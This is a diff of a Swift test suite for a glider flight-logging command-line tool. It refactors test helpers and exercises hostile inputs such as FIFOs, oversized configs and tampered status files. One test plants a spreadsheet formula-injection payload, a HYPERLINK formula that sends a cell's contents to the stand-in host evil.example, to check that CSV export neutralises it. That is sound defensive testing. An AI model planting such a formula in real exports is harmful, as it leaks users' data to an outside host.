@@ -1,4 +1,5 @@
 import FlightLogCore
+import FlightLogTestSupport
 import Foundation
 import Testing
 
@@ -14,9 +15,9 @@ struct BroughtFilesTests {
     let hostile = HostileInputTests()
 
     /// `flightlog ARGS` as ``CLI/run`` runs it, killed after `seconds`: a hang fails the test, not the suite.
-    func runBounded(_ args: [String], db: URL, dir: URL, seconds: Double = 30) throws -> CLI.Result {
+    func runBounded(_ args: [String], db: URL, dir: URL, seconds: Double = 30) throws -> ProcessResult {
         let process = Process()
-        process.executableURL = CLI.productsDirectory.appendingPathComponent("flightlog")
+        process.executableURL = builtExecutable("flightlog")
         process.arguments = args
         process.currentDirectoryURL = dir
         var environment = ProcessInfo.processInfo.environment
@@ -31,14 +32,13 @@ struct BroughtFilesTests {
         process.standardError = try FileHandle(forWritingTo: err)
         process.standardInput = FileHandle.nullDevice
         try process.run()
-        let deadline = Date(timeIntervalSinceNow: seconds)
-        while process.isRunning && Date() < deadline { usleep(20_000) }
+        _ = waitUntil(seconds: seconds) { !process.isRunning }
         if process.isRunning {
             kill(process.processIdentifier, SIGKILL)
             Issue.record("\(args) still ran after \(seconds) s: it hangs (killed)")
         }
         process.waitUntilExit()
-        return CLI.Result(
+        return ProcessResult(
             status: process.terminationStatus, stdout: String(decoding: try Data(contentsOf: out), as: UTF8.self),
             stderr: String(decoding: try Data(contentsOf: err), as: UTF8.self))
     }
@@ -54,7 +54,7 @@ struct BroughtFilesTests {
     }
 
     @Test func aFIFOOrDeviceInPlaceOfAFileIsRefusedAtOnce() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let db = dir.appendingPathComponent("flights.sqlite")
         try importFlights([try hostile.simulatedLines(seed: 7, day: 13, in: dir)], db: db, dir: dir)
         let key = dir.appendingPathComponent("signing.key").path
@@ -77,7 +77,7 @@ struct BroughtFilesTests {
 
     /// A FIFO among the pilot's CUP files is skipped with a notice; the fields still load.
     @Test func aFIFOAmongTheCUPFilesIsSkipped() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let folder = dir.appendingPathComponent("no-config/flightlog/airfields")
         try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
         try #require(mkfifo(folder.appendingPathComponent("sites.cup").path, 0o600) == 0)
@@ -88,7 +88,7 @@ struct BroughtFilesTests {
     }
 
     @Test func aDeeplyNestedOrHugeConfigIsRefusedBeforeParsing() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let db = dir.appendingPathComponent("flights.sqlite")
         let depth = 20_000
         let keys: String = (0..<depth).map { "k\($0)" }.joined(separator: ".")
@@ -110,7 +110,7 @@ struct BroughtFilesTests {
     }
 
     @Test func csvCellsFromAFileNeverRunAsFormulas() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let db = dir.appendingPathComponent("flights.sqlite")
         var lines = try hostile.simulatedLines(seed: 8, day: 14, in: dir)
         lines = header(lines, "HFPLTPILOTINCHARGE:", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
@@ -134,7 +134,7 @@ struct BroughtFilesTests {
     }
 
     @Test func statusFromAStaleOrHostileFile() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let db = dir.appendingPathComponent("flights.sqlite")
         let path = dir.appendingPathComponent("flightlogd.status.json")
         let status: [String: Any] = [
@@ -164,7 +164,7 @@ struct BroughtFilesTests {
 
     /// `list` lines and footer, `stats`, the PDF's rule: a total is the sum of the minutes on the lines.
     @Test func listStatsAndFooterAgree() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let db = dir.appendingPathComponent("flights.sqlite")
         let flights = try (0..<6).map { n in
             var lines = try hostile.simulatedLines(seed: 20 + n, day: 10 + n, in: dir)
@@ -198,7 +198,7 @@ struct BroughtFilesTests {
     }
 
     @Test func theBarogramLabelsAreTheLowestAndHighestAltitude() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let db = dir.appendingPathComponent("flights.sqlite")
         let r0 = try CLI.run(
             ["simulate", "--launch", "winch", "--minutes", "60", "--seed", "9", "--start", "2025-06-20T10:00:00Z",
@@ -219,7 +219,7 @@ struct BroughtFilesTests {
     }
 
     @Test func placesAndZonesReadAsTheyAre() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let db = dir.appendingPathComponent("flights.sqlite")
         // Leszno (Poland) and Aachen-Merzbrück (Germany): both UTC+02:00 in June, not both Europe/Berlin.
         for (n, at) in ["51.8347,16.5219", "51.0147,7.0053"].enumerated() {
@@ -238,7 +238,7 @@ struct BroughtFilesTests {
 
     /// Renaming the landing place to the field it was near makes it a landing there in every view and filter.
     @Test func theOutlandingFollowsTheEditedPlace() throws {
-        let dir = try CLI.temporaryDirectory()
+        let dir = try makeTemporaryDirectory()
         let db = dir.appendingPathComponent("flights.sqlite")
         let r = try CLI.run(
             ["simulate", "--launch", "aerotow", "--minutes", "15", "--seed", "40", "--at", "51.0600,7.0053",
